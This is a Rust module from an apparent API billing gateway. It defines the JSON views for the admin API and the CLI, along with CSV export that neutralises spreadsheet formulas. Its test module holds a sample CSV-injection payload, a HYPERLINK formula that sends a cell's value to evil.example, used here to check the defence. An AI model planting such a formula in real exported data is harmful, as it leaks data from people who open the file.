//! How the operator's side shows things, in JSON (the admin API and the CLI's `--json`) and CSV:
//! every amount a decimal string, every time both Unix milliseconds and RFC 3339.
//!
//! Each JSON answer is a type here, and the OpenAPI document's schema of it is derived from the
//! type (`crate::openapi`; docs/decisions.md, "The OpenAPI document"): a field added here is in
//! the document without anyone writing it.

use schemars::JsonSchema;
use serde::Serialize;
use serde_json::Value;
use std::collections::BTreeMap;
use tollgate_billing::{Amount, Explanation, Total};
use tollgate_journal::clock::format_rfc3339;
use tollgate_store::{
    AccessPolicy, KeySummary, LedgerEntry, PolicyHolder, PriceGroup, StoredPrice, Task, TaskEvent,
    UsageGroup, UsageSummary,
};

/// A view as JSON: what the admin audit log keeps of a change (`before`, `after`) and what
/// the CLI's `--json` prints.
pub fn json(view: &impl Serialize) -> Value {
    serde_json::to_value(view).unwrap_or(Value::Null)
}

/// A list: `{"data": [...]}`.
#[derive(Debug, Serialize)]
pub struct List<T> {
    /// Its items.
    pub data: Vec<T>,
}

/// The open live sessions, and how old a heartbeat may be before the sweeper settles its
/// session (`[realtime] stale_session_seconds` of the replica answering).
#[derive(Debug, Serialize)]
pub struct Sessions {
    /// The sessions, newest first.
    pub data: Vec<tollgate_store::OpenSession>,
    /// Seconds.
    pub stale_after_seconds: u64,
}

/// A page of a listing, newest first: its items and the cursor of the next (`LedgerRowPage`,
/// `UsageRecordPage`, `AdminChangePage`, `AdminTaskPage` in the document).
#[derive(Debug, Serialize, JsonSchema)]
#[schemars(rename = "{T}Page")]
pub struct Page<T> {
    /// The page.
    pub data: Vec<T>,
    /// The `before` of the next page; `null` on the last.
    pub next_cursor: Option<String>,
}

/// An account, and what it may still hold or lease.
#[derive(Debug, Serialize, JsonSchema)]
pub struct Account {
    /// The account.
    #[serde(flatten)]
    pub account: tollgate_store::Account,
    /// What the account may still hold or lease: balance minus holds and leases.
    pub available: Amount,
}

/// An account.
pub fn account(a: &tollgate_store::Account) -> Account {
    Account {
        account: a.clone(),
        available: a.available(),
    }
}

/// An account with its keys, its usage by model (from the usage log's rollup) and its policy.
#[derive(Debug, Serialize, JsonSchema)]
pub struct AccountDetail {
    /// The account.
    #[serde(flatten)]
    pub account: Account,
    /// Its open holds.
    pub open_holds: i64,
    /// Its keys.
    pub keys: Vec<KeySummary>,
    /// Totals per model and meter over the usage log's retention.
    pub usage: Vec<UsageTotal>,
    /// Its access policy.
    pub policy: Policy,
}

/// An account with its keys, its charges by model and its ledger's totals (`tollgate keys show
/// --json`).
#[derive(Debug, Serialize)]
pub struct Report {
    /// The account.
    #[serde(flatten)]
    pub account: Account,
    /// Its open holds.
    pub open_holds: i64,
    /// Its keys.
    pub keys: Vec<KeySummary>,
    /// Its charges by model.
    pub usage: Vec<tollgate_store::ModelUsage>,
    /// Its ledger rows.
    pub ledger_rows: i64,
    /// The sum of its ledger: its balance, unless the database was edited by hand.
    pub ledger_sum: Total,
}

/// An account with its keys, charges by model and ledger totals.
pub fn report(r: &tollgate_store::AccountReport) -> Report {
    Report {
        account: account(&r.account),
        open_holds: r.open_holds,
        keys: r.keys.clone(),
        usage: r.usage.clone(),
        ledger_rows: r.ledger_rows,
        ledger_sum: r.ledger_sum,
    }
}

/// A page of accounts, newest first.
#[derive(Debug, Serialize, JsonSchema)]
pub struct AccountPage {
    /// The page.
    pub data: Vec<Account>,
    /// How many accounts match.
    pub total: i64,
    /// The `before` of the next page; `null` on the last.
    pub next_cursor: Option<String>,
}

/// A new account and its first key.
#[derive(Debug, Serialize, JsonSchema)]
pub struct CreatedAccount {
    /// The account.
    pub account: Account,
    /// Its first key.
    pub key: NewKey,
}

/// A key just made: its secret is shown this once, and only its hash is kept.
#[derive(Debug, Default, Serialize, JsonSchema)]
pub struct NewKey {
    /// `key_…`
    pub id: String,
    /// Shown once; only its hash is kept.
    pub secret: String,
    /// Whose key it is.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub account_id: Option<String>,
    /// Its label.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    /// The key it replaces (a rotation).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub replaces: Option<String>,
}

/// A credit or correction, and the account after it.
#[derive(Debug, Serialize, JsonSchema)]
pub struct Credited {
    /// Its ledger row (`led_…`).
    pub ledger_id: String,
    /// The account after it.
    pub account: Account,
    /// The idempotency key had been used: nothing was credited this time.
    pub replayed: bool,
}

/// A key's state after a change.
#[derive(Debug, Serialize, JsonSchema)]
pub struct KeyState {
    /// `key_…`
    pub id: String,
    /// Whose key it is.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub account_id: Option<String>,
    /// Refused for good.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub revoked: Option<bool>,
    /// Refused until enabled.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub disabled: Option<bool>,
}

/// The id of a policy's holder.
pub fn holder_id(holder: &PolicyHolder) -> &str {
    match holder {
        PolicyHolder::Account(id) | PolicyHolder::Key(id) => id,
    }
}

/// An access policy and its holder (`"account": id` or `"key": id`); `null` is no limit.
#[derive(Debug, Serialize, JsonSchema)]
pub struct Policy {
    /// The account that holds it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub account: Option<String>,
    /// The key that holds it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub key: Option<String>,
    /// Public model names or globs the holder may call.
    pub models: Option<Vec<String>>,
    /// Endpoint names the holder may call.
    pub endpoints: Option<Vec<String>>,
    /// When the holder's requests start being refused, RFC 3339.
    pub expires_at: Option<String>,
    /// Client networks requests may come from.
    pub ips: Option<Vec<String>>,
    /// The price group the holder pays in.
    pub group: Option<String>,
    /// Billable requests per minute.
    pub rpm: Option<u64>,
    /// Units per minute of a meter, by meter name.
    pub per_minute: Option<BTreeMap<String, u64>>,
    /// Billable requests in flight at once.
    pub concurrency: Option<u32>,
    /// Streamed answers open at once.
    pub streams: Option<u32>,
    /// Money per UTC day, on top of the balance.
    pub daily_budget: Option<Amount>,
    /// Money per UTC calendar month, on top of the balance.
    pub monthly_budget: Option<Amount>,
    /// Video tasks in flight at once.
    pub tasks_in_flight: Option<u32>,
}

/// A policy, with its holder.
pub fn policy(holder: &PolicyHolder, p: &AccessPolicy) -> Policy {
    let (account, key) = match holder {
        PolicyHolder::Account(id) => (Some(id.clone()), None),
        PolicyHolder::Key(id) => (None, Some(id.clone())),
    };
    Policy {
        account,
        key,
        models: p.models.clone(),
        endpoints: p.endpoints.clone(),
        expires_at: p.expires_at.map(format_rfc3339),
        ips: p
            .networks
            .as_ref()
            .map(|n| n.iter().map(ToString::to_string).collect()),
        group: p.group.clone(),
        rpm: p.rpm,
        per_minute: p.per_minute.clone(),
        concurrency: p.concurrency,
        streams: p.streams,
        daily_budget: p.daily_budget,
        monthly_budget: p.monthly_budget,
        tasks_in_flight: p.tasks_in_flight,
    }
}

/// A price group: its multiplier, and models' own multipliers.
#[derive(Debug, Serialize, JsonSchema)]
pub struct Group {
    /// Its name.
    pub name: String,
    /// The multiplier of every model's list price, a decimal string.
    pub multiplier: String,
    /// Models' own multipliers, decimal strings.
    pub models: BTreeMap<String, String>,
}

/// A price group.
pub fn group(g: &PriceGroup) -> Group {
    Group {
        name: g.name.clone(),
        multiplier: g.multiplier.to_string(),
        models: g
            .models
            .iter()
            .map(|(k, v)| (k.clone(), v.to_string()))
            .collect(),
    }
}

/// A version of a model's price, its times also in RFC 3339.
#[derive(Debug, Serialize, JsonSchema)]
pub struct PriceVersion {
    /// The version.
    #[serde(flatten)]
    pub price: StoredPrice,
    /// `effective_from` in RFC 3339.
    pub effective_from_time: String,
    /// `created_at` in RFC 3339.
    pub created_time: String,
}

/// A price version.
pub fn price(p: &StoredPrice) -> PriceVersion {
    PriceVersion {
        effective_from_time: format_rfc3339(p.effective_from),
        created_time: format_rfc3339(p.created_at),
        price: p.clone(),
    }
}

/// A model's price versions, and the one in effect now.
#[derive(Debug, Serialize, JsonSchema)]
pub struct ModelPrices {
    /// The public model.
    pub model: String,
    /// The version in effect now.
    pub current: Option<i64>,
    /// Every version, oldest first.
    pub versions: Vec<PriceVersion>,
}

/// What a request was charged, explained (`GET /admin/v1/requests/{id}`, `tollgate explain
/// --json`): the client's `GET /v1/charges/{id}` answer, with what only the operator sees.
#[derive(Debug, Serialize, JsonSchema)]
pub struct RequestCharges {
    /// `tollgate.charges`.
    #[schemars(extend("const" = "tollgate.charges"))]
    pub object: &'static str,
    /// The request id.
    pub request_id: String,
    /// What its charges took, together.
    pub charged: Amount,
    /// What each account was charged under this id (more than one when accounts' clients
    /// chose the same id): their charges are never added together as one request's.
    pub accounts: Vec<AccountCharged>,
    /// Each charge, explained, oldest first.
    pub data: Vec<Explanation>,
    /// The request's usage records.
    pub records: u64,
    /// Charges whose arithmetic does not agree with what was taken (their ledger ids).
    pub disagree: Vec<String>,
}

/// What one account was charged under a request id.
#[derive(Debug, Serialize, JsonSchema)]
pub struct AccountCharged {
    /// The account.
    pub account_id: String,
    /// What its charges took.
    pub charged: Amount,
}

/// What a request was charged, explained.
pub fn request_charges(request_id: &str, found: &tollgate_store::RequestCharges) -> RequestCharges {
    let accounts = found
        .accounts()
        .into_iter()
        .map(|a| AccountCharged {
            account_id: a.to_owned(),
            charged: found.charged_to(a),
        })
        .collect();
    RequestCharges {
        object: "tollgate.charges",
        request_id: request_id.to_owned(),
        charged: found.charged(),
        accounts,
        data: found.charges.clone(),
        records: found.records,
        disagree: found.disagree.clone(),
    }
}

/// A ledger row, its time also in RFC 3339.
#[derive(Debug, Serialize, JsonSchema)]
pub struct LedgerRow {
    /// The row.
    #[serde(flatten)]
    pub entry: LedgerEntry,
    /// `created_at` in RFC 3339.
    pub time: String,
}

/// A ledger row.
pub fn ledger_entry(e: &LedgerEntry) -> LedgerRow {
    LedgerRow {
        entry: e.clone(),
        time: format_rfc3339(e.created_at),
    }
}

/// A usage record, its time also in RFC 3339.
#[derive(Debug, Serialize, JsonSchema)]
pub struct UsageRecord {
    /// The record.
    #[serde(flatten)]
    pub record: tollgate_store::UsageRecord,
    /// `created_at` in RFC 3339.
    pub time: String,
}

/// A usage record.
pub fn usage_record(r: &tollgate_store::UsageRecord) -> UsageRecord {
    UsageRecord {
        record: r.clone(),
        time: format_rfc3339(r.created_at),
    }
}

/// A usage total: a group's records on one meter.
#[derive(Debug, Serialize, JsonSchema)]
pub struct UsageTotal {
    /// The group's value (a time bucket's start in RFC 3339).
    pub group: String,
    /// The meter (`null`: records that counted nothing, such as refusals).
    pub meter: Option<String>,
    /// How many records.
    pub requests: u64,
    /// How many of them ended with a status of 400 or above.
    pub errors: u64,
    /// Units of the meter.
    pub units: u64,
    /// What was charged.
    pub charge: Total,
}

/// The usage log's totals by a group.
#[derive(Debug, Serialize, JsonSchema)]
#[schemars(rename = "UsageSummary")]
pub struct UsageTotals {
    /// What the records are grouped by.
    pub group_by: &'static str,
    /// A total per group and meter.
    pub data: Vec<UsageTotal>,
}

/// An open credit lease of a replica (DESIGN §4).
#[derive(Debug, Serialize, JsonSchema)]
pub struct Lease {
    /// `lease_…`
    pub id: String,
    /// Whose credit.
    pub account_id: String,
    /// The replica that holds it.
    pub owner: String,
    /// What is left of it.
    pub remaining: Amount,
    /// Unix milliseconds.
    pub expires_at: i64,
}

/// What `tollgate audit` found (docs/decisions.md, "What the audit checks"), and what
/// re-deriving every charge found when it was asked for (`recompute=true`).
#[derive(Debug, Serialize, JsonSchema)]
#[schemars(rename = "AuditReport")]
pub struct Audit {
    /// Every money invariant, and each violation.
    #[serde(flatten)]
    pub report: tollgate_store::AuditReport,
    /// Every charge re-derived from its quantity and price version.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub recompute: Option<tollgate_store::RecomputeReport>,
}

/// The settings in force (`GET /admin/v1/config`; docs/operations.md, "Reloading the
/// configuration").
#[derive(Debug, Serialize, JsonSchema)]
pub struct ConfigStatus {
    /// The settings' generation: 1 at start, one more at each reload that changed something.
    pub generation: u64,
    /// When they were installed, RFC 3339.
    #[schemars(extend("format" = "date-time"))]
    pub installed_at: String,
    /// Where the configuration is read from; `null` for a gateway that cannot reload.
    pub source: Option<String>,
    /// Reloads refused since the start.
    pub reloads_refused: u64,
    /// The last reload refused.
    pub last_refusal: Option<Refusal>,
}

/// A reload refused: when, and why.
#[derive(Debug, Serialize, JsonSchema)]
pub struct Refusal {
    /// RFC 3339.
    #[schemars(extend("format" = "date-time"))]
    pub at: String,
    /// Why.
    pub error: String,
}

/// An upstream channel: its health since the start, and its load now.
#[derive(Debug, Serialize, JsonSchema)]
pub struct Channel {
    /// Its name.
    pub name: String,
    /// Its wire format (docs/configuration.md, `[[channels]]`).
    pub format: &'static str,
    /// Where it is.
    pub base_url: String,
    /// Its health.
    #[serde(flatten)]
    pub health: tollgate_settings::channels::HealthReport,
    /// Calls to it in flight now.
    pub in_flight: usize,
    /// The most at once.
    pub max_concurrency: usize,
}

/// A public model of the catalog: its kind, channels, price in force and aliases.
#[derive(Debug, Serialize, JsonSchema)]
pub struct CatalogModel {
    /// The public name.
    pub model: String,
    /// What kind of endpoint serves it.
    pub kind: tollgate_settings::config::ModelKind,
    /// The name its channels know it by.
    pub upstream_model: String,
    /// Its channels, in the order they are tried.
    pub channels: Vec<String>,
    /// Its price in force now.
    pub price: tollgate_billing::Tariff,
    /// That price's version (`null` before the first is stored).
    pub price_version: Option<i64>,
    /// Other names it answers to.
    pub aliases: Vec<String>,
}

/// What the console's overview shows: spend and requests per hour (or day) over a period, by
/// model and by status, the error rate, open holds and leases, tasks in flight.
#[derive(Debug, Serialize, JsonSchema)]
pub struct Overview {
    /// The period, hours back from now.
    pub hours: i64,
    /// The bucket of `over_time`: `hour` or `day`.
    pub bucket: &'static str,
    /// Totals per bucket.
    pub over_time: Vec<UsageTotal>,
    /// Totals per model.
    pub by_model: Vec<UsageTotal>,
    /// Totals per status.
    pub by_status: Vec<UsageTotal>,
    /// Requests over the period.
    pub requests: u64,
    /// Of them, those that ended with a status of 400 or above.
    pub errors: u64,
    /// Open holds now.
    pub open_holds: Open,
    /// Open credit leases now.
    pub open_leases: Open,
    /// Video tasks in flight now.
    pub tasks_in_flight: i64,
}

/// How many are open, and what they reserve.
#[derive(Debug, Serialize, JsonSchema)]
pub struct Open {
    /// How many.
    pub count: u64,
    /// What they reserve together.
    pub amount: Amount,
}

/// A video task as the operator sees it: the client's request and the result included.
#[derive(Debug, Serialize, JsonSchema)]
#[schemars(rename = "AdminTask")]
pub struct TaskView {
    /// The task.
    #[serde(flatten)]
    pub task: Task,
    /// Its history, oldest first (`GET /admin/v1/tasks/{id}` only).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub history: Option<Vec<TaskEvent>>,
}

/// A task as the operator sees it.
pub fn task(t: &Task) -> TaskView {
    TaskView {
        task: t.clone(),
        history: None,
    }
}

/// The columns of a usage record in CSV, in order.
pub const RECORD_COLUMNS: &[&str] = &[
    "time",
    "kind",
    "account",
    "key",
    "group",
    "endpoint",
    "model",
    "channel",
    "status",
    "meter",
    "units",
    "charge",
    "hold",
    "latency_ms",
    "upstream_ms",
    "estimated",
    "request_id",
    "task_id",
    "note",
];

/// A usage record's cells, in [`RECORD_COLUMNS`] order.
pub fn record_cells(r: &tollgate_store::UsageRecord) -> Vec<String> {
    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
    vec![
        format_rfc3339(r.created_at),
        r.kind.to_owned(),
        r.account_id.clone(),
        opt(&r.key_id),
        opt(&r.price_group),
        r.endpoint.clone(),
        opt(&r.model),
        opt(&r.channel),
        r.status.to_string(),
        opt(&r.meter),
        r.units.to_string(),
        r.charge.to_string(),
        r.hold.to_string(),
        r.latency_ms.to_string(),
        r.upstream_ms.map(|u| u.to_string()).unwrap_or_default(),
        r.estimated.to_string(),
        opt(&r.request_id),
        opt(&r.task_id),
        opt(&r.note),
    ]
}

/// The columns of a usage total.
pub const SUMMARY_COLUMNS: &[&str] = &["group", "meter", "requests", "errors", "units", "charge"];

/// A usage total's cells, in [`SUMMARY_COLUMNS`] order (a time bucket as RFC 3339).
pub fn summary_cells(group: UsageGroup, s: &UsageSummary) -> Vec<String> {
    vec![
        group_name(group, s),
        s.meter.clone().unwrap_or_else(|| "-".into()),
        s.requests.to_string(),
        s.errors.to_string(),
        s.units.to_string(),
        s.charge.to_string(),
    ]
}

/// A total's group as shown: a time bucket's start in RFC 3339.
fn group_name(group: UsageGroup, s: &UsageSummary) -> String {
    if group.is_time() {
        s.group
            .parse::<i64>()
            .map(format_rfc3339)
            .unwrap_or_else(|_| s.group.clone())
    } else {
        s.group.clone()
    }
}

/// A usage total.
pub fn summary(group: UsageGroup, s: &UsageSummary) -> UsageTotal {
    UsageTotal {
        group: group_name(group, s),
        meter: s.meter.clone(),
        requests: s.requests,
        errors: s.errors,
        units: s.units,
        charge: s.charge,
    }
}

/// One CSV line (RFC 4180), without its line break: a field with a comma, quote or line break
/// is quoted, its quotes doubled. A text field that a spreadsheet would run as a formula — one
/// that starts with `=`, `+`, `-`, `@`, a tab or a carriage return — gets a `'` in front (OWASP's
/// CSV injection advice), so that it shows as the text it is; a number (`-0.5`, `12`) stays a
/// number (`docs/decisions.md`, "The usage log").
pub fn csv_line(cells: &[String]) -> String {
    cells
        .iter()
        .map(|c| {
            let c = neutralised(c);
            if c.contains([',', '"', '\n', '\r']) {
                format!("\"{}\"", c.replace('"', "\"\""))
            } else {
                c.into_owned()
            }
        })
        .collect::<Vec<_>>()
        .join(",")
}

/// `cell` as a spreadsheet may open it: a would-be formula prefixed with `'`.
fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula && !is_number(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A plain decimal number, signed: `-0.5`, `+12`, `3`.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let cells = vec!["a".to_owned(), "b,c".to_owned(), "say \"hi\"".to_owned()];
        assert_eq!(csv_line(&cells), "a,\"b,c\",\"say \"\"hi\"\"\"");
    }

    /// Issue 22 item 3: a client-chosen text that a spreadsheet would run is shown as text;
    /// numbers stay numbers.
    #[test]
    fn formulas_are_neutralised_and_numbers_are_not() {
        let cell = |c: &str| csv_line(&[c.to_owned()]);
        assert_eq!(
            cell(r#"=HYPERLINK("https://evil.example/?k="&C2,"open")"#),
            r#""'=HYPERLINK(""https://evil.example/?k=""&C2,""open"")""#
        );
        for formula in ["+1+2", "-cmd", "@SUM(A1)", "\tx", "\rx"] {
            assert!(
                cell(formula).trim_start_matches('"').starts_with('\''),
                "{formula:?}"
            );
        }
        for number in ["-0.5", "12", "+3", "0.000000001", "-12"] {
            assert_eq!(cell(number), number);
        }
        assert_eq!(cell("-1-2"), "'-1-2");
        assert_eq!(cell("req_abc"), "req_abc");
    }
}
